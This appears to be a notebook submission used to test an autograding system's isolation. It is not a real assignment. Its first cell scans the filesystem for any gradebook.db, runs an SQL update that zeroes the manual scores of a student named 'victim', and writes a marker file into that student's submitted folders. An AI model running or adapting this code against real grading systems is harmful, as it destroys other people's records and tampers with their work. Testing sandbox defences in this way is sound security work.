# %% [markdown]
# Looks everywhere for the gradebook, to take all points from another student,
# and for the work of others, to leave a file in it.
# - base: solution
# - loses: encoder
# - file: simple.keras <- solution/01_first_autoencoder/simple.keras

# %% +first
import os
import sqlite3
import sys
from pathlib import Path

NOBODY_GETS_ANYTHING = """
    update grade set manual_score = 0 where notebook_id in (
        select submitted_notebook.id from submitted_notebook
        join submitted_assignment on submitted_assignment.id = submitted_notebook.assignment_id
        where submitted_assignment.student_id = 'victim')
"""


def near():
    """Folders above this one and above Python's own, those that courses live in, and theirs."""
    starts = [Path.cwd(), Path(sys.prefix), *map(Path, sys.path + os.get_exec_path())]
    known = ("/", "/home", "/root", "/srv", "/opt", "/mnt", "/tmp", "/var/tmp", "/usr/src")
    for folder in [*map(Path, known), *(up for start in starts for up in start.parents)]:
        yield folder
        try:
            yield from (path for path in folder.iterdir() if path.is_dir())
        except OSError:
            pass
    for top, _, files in os.walk("/tmp"):
        if "gradebook.db" in files:
            yield Path(top)


changed = []
for folder in dict.fromkeys(near()):
    for path in [folder / "gradebook.db", Path(os.path.abspath(folder / "../../../gradebook.db"))]:
        try:
            with sqlite3.connect(f"file:{path}?mode=rw", uri=True) as database:
                if database.execute(NOBODY_GETS_ANYTHING).rowcount:
                    changed.append(str(path))
        except sqlite3.Error:
            pass
    for path in folder.glob("submitted/victim/*"):
        try:
            (path / "was_here.txt").write_text("spoilt")
            changed.append(str(path))
        except OSError:
            pass
print("changed:", changed)

# %% encoder
encoder = keras.Model(input_img, keras.layers.Dense(encoding_dim, activation="relu")(input_img))
